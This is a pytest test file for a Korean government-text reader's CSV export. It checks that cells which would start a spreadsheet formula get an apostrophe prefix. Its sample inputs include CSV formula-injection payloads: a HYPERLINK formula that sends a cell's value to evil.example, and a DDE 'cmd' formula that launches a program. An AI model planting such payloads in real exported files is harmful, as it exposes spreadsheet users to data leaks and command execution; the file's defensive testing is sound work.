"""CSV is written for spreadsheets (it starts with a BOM so that they read it as UTF-8), and a
spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula: a page whose title,
site name or file name is `=HYPERLINK("https://…","원문")` would hand the analyst a link to click,
`=cmd|' /C …'!A0` a command to run. Every text cell that would start a formula starts with an
apostrophe instead, the mark spreadsheets read as "text follows"; JSON keeps the text as it is.
"""

from __future__ import annotations

import csv
import html
import io
import json
from pathlib import Path

import pytest

from govreader.cli import main
from govreader.export import ExportFormat, export
from govreader.model import Article, Fact, FactKind

FORMULAS = (
    '=HYPERLINK("https://evil.example/?q="&A1,"원문 보기")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
)
SENTENCE = "해오름시는 청년 창업 지원에 예산 30억 원을 들인다고 밝혔다."


def _starts_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t"), row


def _page(title: str, source: str) -> str:
    title, source = html.escape(title), html.escape(source)
    return (
        f"<html><head><meta charset='utf-8'><title>{title}</title>"
        f"<meta property='og:site_name' content='{source}'></head><body><article>"
        f"<h1>{title}</h1><p>{SENTENCE} {SENTENCE}</p><p>{SENTENCE}</p></article></body></html>"
    )


@pytest.fixture
def pages(tmp_path: Path) -> Path:
    folder = tmp_path / "pages"
    folder.mkdir()
    for number, formula in enumerate(FORMULAS):
        name = formula.replace("/", " ").replace("\t", " ")
        page = _page(f"{formula[0]}해오름시, 청년 창업 지원 확대", formula)
        (folder / f"{name[:40]} {number}.html").write_text(page, encoding="utf-8")
    return folder


def test_the_facts_csv_starts_no_cell_with_a_formula(
    pages: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(pages)  # relative paths: a file name is the path cell's first character
    capsys.readouterr()
    main(["facts", "--format", "csv", "."])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out.removeprefix("\ufeff"))))
    assert len(rows) > len(FORMULAS)
    _starts_no_formula(rows)
    titles = {row[1] for row in rows[1:]}
    assert "'@해오름시, 청년 창업 지원 확대" in titles  # the text is kept after the apostrophe


@pytest.mark.parametrize("grouped", [[], ["--group-by", "source"]])
def test_the_table_csv_starts_no_cell_with_a_formula(
    pages: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], grouped: list[str]
) -> None:
    library = str(tmp_path / "library")
    assert main(["--library", library, "add", str(pages)]) == 0
    capsys.readouterr()
    assert main(["--library", library, "table", "amount", "--format", "csv", *grouped]) == 0
    out = capsys.readouterr().out.removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(out)))
    _starts_no_formula(rows)
    sources = rows[1][rows[0].index("source")]  # the five sites of one fact, in one cell
    assert sources.startswith("'+1+cmd") and "=HYPERLINK(" in sources, rows
    assert main(["--library", library, "table", "amount", "--format", "json", *grouped]) == 0
    assert json.loads(capsys.readouterr().out)[0]["source"].startswith("+1+cmd")  # as written


def test_an_exported_article_keeps_a_number_a_number() -> None:
    """Only text cells are marked: a number (an offset, an amount) is no formula."""
    text = "-" + SENTENCE
    fact = Fact(FactKind.AMOUNT, 22, 28, text[22:28], {"value": 3_000_000_000, "unit": "원"})
    article = Article(path="=a.html", title="-3 청년", text=text, facts=[fact])
    rows = list(csv.DictReader(io.StringIO(export([article], ExportFormat.CSV)[1:])))
    assert rows[0]["path"] == "'=a.html" and rows[0]["title"] == "'-3 청년"
    assert rows[0]["value"] == "3000000000" and rows[0]["start"] == "22"
